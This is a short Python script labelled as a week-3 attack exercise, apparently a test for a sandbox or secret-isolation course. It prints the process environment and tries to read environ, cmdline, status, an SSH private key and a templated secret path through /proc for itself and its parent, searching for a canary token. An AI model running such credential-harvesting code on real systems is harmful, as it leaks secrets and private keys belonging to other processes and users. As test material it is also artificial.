"""Reads the environment of every process above it."""
# attack: week=03 exercise=pyramid
import os
import re

print(dict(os.environ))
number = os.getppid()
for path in ("/proc/self", "/proc/thread-self", f"/proc/{number}", "/proc/@PID@"):
    for name in ("environ", "cmdline", "status", "cwd/.ssh/id_ed25519", "root@SECRET@"):
        try:
            found = open(f"{path}/{name}", "rb").read()
            print(path, name, re.findall(rb"@CANARY_START@[0-9a-f]+", found))
        except OSError as error:
            print("refused", error)
